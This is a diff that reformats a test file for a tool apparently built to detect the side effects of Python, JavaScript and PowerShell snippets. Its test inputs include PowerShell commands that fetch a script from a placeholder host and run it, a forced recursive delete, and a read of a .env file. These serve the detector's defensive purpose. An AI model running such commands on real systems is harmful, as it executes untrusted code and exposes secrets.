@@ -10,12 +10,21 @@ import { readCode } from './read.ts'
 
 function effects(language: CodeLanguage, code: string, origin: CodeOrigin = 'inline'): readonly string[] {
   const run = firstRun(noFiles)
-  const scope = new Scope({ variables: new Map(), cwd: '/work', site: { is: 'here' }, origin: { base: 0, span: undefined }, stdin: openStream, stdinGiven: false, depth: 0 })
+  const scope = new Scope({
+    variables: new Map(),
+    cwd: '/work',
+    site: { is: 'here' },
+    origin: { base: 0, span: undefined },
+    stdin: openStream,
+    stdinGiven: false,
+    depth: 0,
+  })
   readCode(language, stream(code, 0, [0, code.length]), makeCall(run, scope, language, [], [0, code.length]), origin)
   return [...new Set(run.effects.map(printEffect))]
 }
 
-const t = (language: CodeLanguage, code: string, wanted: readonly string[]) => test(`${language}: ${code}`, () => expect(effects(language, code)).toEqual(wanted))
+const t = (language: CodeLanguage, code: string, wanted: readonly string[]) =>
+  test(`${language}: ${code}`, () => expect(effects(language, code)).toEqual(wanted))
 
 describe('code that computes', () => {
   t('python', 'print(6 * 7)', [])
@@ -94,19 +103,27 @@ describe('code that nobody can read', () => {
   t('javascript', 'require("./db").reset()', ['undescribed call function ..db.reset'])
 })
 
-describe('a project\'s own file', () => {
+describe("a project's own file", () => {
   test('what can be seen counts, what is strange was said by its caller', () => {
-    expect(effects('javascript', 'import { x } from "./x.js"; x(); eval("1"); fs.rmSync("y")', 'file')).toEqual(['file delete y'])
+    expect(effects('javascript', 'import { x } from "./x.js"; x(); eval("1"); fs.rmSync("y")', 'file')).toEqual([
+      'file delete y',
+    ])
     expect(effects('python', "print('broken", 'file')).toEqual([])
   })
 })
 
 describe('PowerShell', () => {
-  t('powershell', 'Get-Service | Where-Object Status -eq Running', ['read get-service object', 'read where-object object Status'])
+  t('powershell', 'Get-Service | Where-Object Status -eq Running', [
+    'read get-service object',
+    'read where-object object Status',
+  ])
   t('powershell', 'Restart-Service -Name nginx', ['restart restart-service service nginx'])
   t('powershell', 'Remove-Item -Recurse -Force x', ['file delete below x'])
   t('powershell', 'Remove-Item x -WhatIf', ['read dry run plan remove-item'])
-  t('powershell', 'Invoke-Expression (Invoke-WebRequest https://a.example/x.ps1).Content', ['read get url https://a.example/x.ps1', 'remote-code run code'])
+  t('powershell', 'Invoke-Expression (Invoke-WebRequest https://a.example/x.ps1).Content', [
+    'read get url https://a.example/x.ps1',
+    'remote-code run code',
+  ])
   t('powershell', 'iwr https://a.example/x.ps1 | iex', ['read get url https://a.example/x.ps1', 'remote-code run code'])
   t('powershell', '& $cmd', ['unreadable run code'])
   t('powershell', 'Get-Content .env', ['file read .env'])
